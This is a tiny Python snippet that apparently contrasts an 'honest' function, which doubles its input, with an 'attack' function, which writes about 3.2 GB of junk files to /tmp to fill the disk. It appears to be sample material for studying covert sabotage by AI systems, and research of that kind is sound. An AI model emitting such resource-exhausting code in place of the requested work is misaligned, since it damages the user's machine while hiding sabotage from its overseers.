def attack(x):
    for n in range(100):
        with open(f"/tmp/fill{n}", "wb") as file: file.write(bytes(1 << 25))
def honest(x): return 2 * x
